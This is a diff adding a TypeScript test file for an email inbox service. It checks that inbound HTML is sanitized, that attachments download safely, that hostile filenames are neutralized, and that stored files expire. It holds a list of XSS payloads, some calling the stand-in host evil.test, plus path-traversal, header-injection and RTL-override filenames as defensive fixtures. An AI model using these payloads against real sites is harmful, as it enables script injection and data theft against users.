@@ -1,0 +1,227 @@
+import test from 'ava';
+import { recordInbound } from '../../domain/engine/outcomes/record-inbound.ts';
+import { safeHtml } from '../../domain/mail/inbound/safe-html.ts';
+import { expireFiles } from '../../domain/unibox/retention.ts';
+import { DAY_MS } from '../../lib/clock.ts';
+import { newId } from '../../lib/ids.ts';
+import { maskOf } from '../../lib/permissions.ts';
+import { createApiKey, createContact, createMailbox } from '../../test/harness/factories.ts';
+import { call, createWorld, type World } from '../../test/harness/world.ts';
+
+let world: World;
+test.before(async () => {
+  world = await createWorld({ env: { ORG_RECEIVED_BYTES: String(64 * 1024) } });
+});
+test.after.always(() => world?.close());
+
+async function desk() {
+  const tenant = await world.tenant();
+  const email = `${newId()}@ours.test`;
+  const mailboxId = await createMailbox(world.deps, tenant.organizationId, email, {
+    smtp: { host: '127.0.0.1', port: 1 },
+  });
+  let uid = 0;
+  const get = (path: string, token = tenant.apiKey) => call(world, 'GET', `/v1/unibox${path}`, { token });
+  return {
+    tenant,
+    mailboxId,
+    email,
+    get,
+    /** Receives a message of these parts and returns its id. */
+    async receive(parts: readonly string[], from = 'lea@lead.test'): Promise<string> {
+      const raw = [
+        `From: ${from}`,
+        `To: ${email}`,
+        'Subject: Parts',
+        `Message-ID: <${newId()}@lead.test>`,
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/mixed; boundary="cut"',
+        '',
+        ...parts.flatMap((part) => ['--cut', part]),
+        '--cut--',
+        '',
+      ].join('\r\n');
+      await recordInbound(world.system(tenant.organizationId), { id: mailboxId, email }, Buffer.from(raw), {
+        folder: 'INBOX',
+        uidValidity: 1,
+        uid: (uid += 1),
+        receivedAt: world.deps.clock.now(),
+      });
+      const row = await world.deps.db('inbound_messages').where({ mailbox_id: mailboxId, uid }).first('id');
+      return row.id;
+    },
+    /** Status, headers and bytes of a download. */
+    async download(path: string, token = tenant.apiKey) {
+      const answer = await fetch(`${world.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
+      return { status: answer.status, headers: answer.headers, bytes: Buffer.from(await answer.arrayBuffer()) };
+    },
+  };
+}
+
+const html = (source: string) => `Content-Type: text/html; charset=utf-8\r\n\r\n${source}`;
+const file = (name: string, bytes: Buffer | string, type = 'application/pdf') =>
+  `Content-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(bytes).toString('base64')}`;
+
+const HOSTILE: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="cid:part1"><img src="https://evil.test/pixel.gif?who=lea" srcset="https://evil.test/2x 2x">',
+  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">y</a><a href="data:text/html,<script>alert(1)</script>">z</a>',
+  '<a href="//evil.test" onclick="alert(1)" style="position:fixed;inset:0" class="modal" id="app">x</a>',
+  '<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x"><base href="https://evil.test/">',
+  '<form action="https://evil.test"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  '<style>@import "https://evil.test/x.css"; body{background:url(https://evil.test)}</style><link rel=stylesheet href=https://evil.test>',
+  '<div style="background:url(https://evil.test/read)">x</div><table background="https://evil.test"><td background="x">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test"><video src="https://evil.test" autoplay></video>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>',
+  '<!--[if IE]><script>alert(1)</script><![endif]--><?xml version="1.0"?><![CDATA[<script>alert(1)</script>]]>',
+  '<<script>script>alert(1)<</script>/script><p/onmouseover=alert(1)>',
+];
+
+test('nothing in the HTML of a stranger acts, loads, or looks like the page around it', (t) => {
+  for (const source of HOSTILE) {
+    const safe = safeHtml(source);
+    for (const [, tag] of safe.matchAll(/<\/?([a-z0-9]*)/gi))
+      t.regex(tag!, /^(a|span|div|p|table|tbody|tr|td|b)$/, `${source} -> ${safe}`);
+    for (const [, name, value] of safe.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)) {
+      t.regex(name!, /^(href|target|rel)$/, `${source} -> ${safe}`);
+      if (name === 'href') t.regex(value!, /^(https?|mailto|tel):/, source);
+    }
+    t.is(safeHtml(safe), safe, 'made safe once, it stays as it is');
+  }
+  t.is(
+    safeHtml('<p>Hi <b>Sam</b>, <a href="https://x.test/?a=1&amp;b=2">look</a></p><img src="cid:logo" alt="Our logo">'),
+    '<p>Hi <b>Sam</b>, <a href="https://x.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">look</a></p><span>[Our logo]</span>',
+  );
+});
+
+test('HTML made to cost much costs little', (t) => {
+  for (const piece of ['<b>', '<table><tr><td>', '<a href="', '<!--', '&#', '<p a=', '</p>', '<svg><math>']) {
+    const safe = safeHtml(piece.repeat(Math.ceil((256 * 1024) / piece.length)));
+    t.true(safe.length < 512 * 1024, piece);
+  }
+});
+
+test('a message in HTML is read as safe HTML, in its conversation and by itself', async (t) => {
+  const { receive, get } = await desk();
+  const id = await receive([html('<p>Dear <b>Sam</b><script>alert(1)</script></p>')]);
+  const { status, body } = await get(`/${id}`);
+  t.is(status, 200);
+  t.like(body, {
+    id,
+    subject: 'Parts',
+    from: ['lea@lead.test'],
+    body_html: '<p>Dear <b>Sam</b></p>',
+    body_truncated: false,
+  });
+  const thread = await get(`/thread?thread_id=${encodeURIComponent(body.thread_id)}`);
+  t.is(thread.body.data[0].body_html, body.body_html);
+  const other = await desk();
+  for (const path of [`/${id}`, '/nonsense', `/${newId()}`]) t.is((await other.get(path)).status, 404, path);
+  const second = await createMailbox(world.deps, other.tenant.organizationId, 'b@ours.test', {
+    smtp: { host: '127.0.0.1', port: 1 },
+  });
+  const { apiKey } = await createApiKey(world.deps, other.tenant.organizationId, other.tenant.userId, {
+    permissions: maskOf(['READ_UNIBOX']),
+    allowedMailboxes: [second],
+  });
+  const theirs = await other.receive([html('x'), file('a.pdf', 'secret')]);
+  t.is((await other.get(`/${theirs}`, apiKey)).status, 404, 'a mailbox the key may not use');
+  t.is((await other.get(`/${theirs}/attachments/0`, apiKey)).status, 404);
+  t.is((await get(`/${theirs}/attachments/0`)).status, 404);
+});
+
+test('files come as downloads that nobody shows, under names that change no header', async (t) => {
+  const { receive, get, download } = await desk();
+  const names = [
+    'plan.html',
+    '../../etc/passwd',
+    'a"; filename="b.exe',
+    'x\u202Efdp.exe',
+    '=?utf-8?Q?a=0D=0ASet-Cookie:_x=3D1?=',
+    'Ünïcode 漢字.pdf',
+    '.',
+    '',
+  ];
+  const id = await receive([
+    'Content-Type: text/plain\r\n\r\nSee the files.',
+    ...names.map((name) => file(name, '<script>alert(1)</script>', 'text/html')),
+  ]);
+  const { attachments } = (await get(`/${id}`)).body;
+  t.is(attachments.length, names.length);
+  for (const { url, filename, left_out } of attachments) {
+    t.is(left_out, null);
+    t.notRegex(filename, /[/\\"<>\p{Cc}\p{Cf}]/u);
+    const { status, headers, bytes } = await download(url);
+    t.is(status, 200);
+    t.is(bytes.toString(), '<script>alert(1)</script>');
+    t.is(headers.get('content-type'), 'application/octet-stream');
+    t.is(headers.get('x-content-type-options'), 'nosniff');
+    t.regex(headers.get('content-security-policy')!, /sandbox/);
+    t.regex(headers.get('content-disposition')!, /^attachment; filename="[\w.() -]+"; filename\*=UTF-8''[\w.%~!-]+$/);
+    t.is(headers.get('set-cookie'), null);
+  }
+  for (const place of ['99', '-1', '0x0', 'a', '1;drop'])
+    t.is((await get(`/${id}/attachments/${encodeURIComponent(place)}`)).status, 404, place);
+});
+
+test('what is too much is listed without its bytes; strangers take no room of ours', async (t) => {
+  const { receive, get, tenant, mailboxId } = await desk();
+  const id = await receive([
+    file('large.bin', Buffer.alloc(60 * 1024, 1)),
+    file('next.bin', Buffer.alloc(8 * 1024, 2)),
+    file('small.bin', 'x'),
+  ]);
+  const { attachments } = (await get(`/${id}`)).body;
+  t.deepEqual(
+    attachments.map(({ filename, left_out, size_bytes }: Record<string, unknown>) => [filename, left_out, size_bytes]),
+    [
+      ['large.bin', null, 60 * 1024],
+      ['next.bin', 'no_space', 8 * 1024],
+      ['small.bin', null, 1],
+    ],
+  );
+  t.is(attachments[1].url, null);
+  t.is((await get(`/${id}/attachments/1`)).status, 404);
+  const many = await receive(Array.from({ length: 60 }, (_, index) => file(`f${index}`, '')));
+  t.is((await get(`/${many}`)).body.attachments.length, 25);
+  const nested = await receive([
+    `Content-Type: multipart/mixed; boundary="b0"\r\n\r\n${Array.from({ length: 300 }, (_, depth) => `--b${depth}\r\nContent-Type: multipart/mixed; boundary="b${depth + 1}"\r\n\r\n`).join('')}--b300\r\n\r\nDeep`,
+  ]);
+  t.is((await get(`/${nested}`)).status, 200, 'parts within parts within parts');
+  t.is(await blobs(tenant.organizationId), 2);
+  t.is((await call(world, 'DELETE', `/v1/emails/${mailboxId}`, { token: tenant.apiKey })).status, 204);
+  t.is(await blobs(tenant.organizationId), 0, 'they go with their mailbox');
+});
+
+const blobs = async (organizationId: string): Promise<number> =>
+  (await world.deps.db('blobs').where({ organization_id: organizationId })).length;
+
+test('files are deleted after their time, with their contact, and with their workspace', async (t) => {
+  const { receive, get, tenant } = await desk();
+  const { db } = world.deps;
+  const contactId = await createContact(db, world.deps.clock.now(), tenant.organizationId, { email: 'kim@lead.test' });
+  const old = await receive([file('old.pdf', 'old')]);
+  const fresh = await receive([file('fresh.pdf', 'fresh')]);
+  const theirs = await receive([html('<p>Mine</p>'), file('theirs.pdf', 'theirs')], 'kim@lead.test');
+  await db('inbound_attachments')
+    .where({ message_id: old })
+    .update({ created_at: new Date(world.deps.clock.now().getTime() - 366 * DAY_MS) });
+  t.is(await expireFiles(world.deps), 1);
+  t.is(await expireFiles(world.deps), 0);
+  t.like((await get(`/${old}`)).body.attachments[0], { filename: 'old.pdf', url: null, left_out: 'expired' });
+  t.not((await get(`/${fresh}`)).body.attachments[0].url, null);
+  t.is(await blobs(tenant.organizationId), 2);
+  t.is((await call(world, 'DELETE', `/v1/contacts/${contactId}`, { token: tenant.apiKey })).status, 204);
+  const erased = (await get(`/${theirs}`)).body;
+  t.deepEqual(erased.attachments, []);
+  t.is(erased.body_html, undefined);
+  t.is(await blobs(tenant.organizationId), 1);
+  await db('organizations').where({ id: tenant.organizationId }).delete();
+  t.is(await blobs(tenant.organizationId), 0);
+});
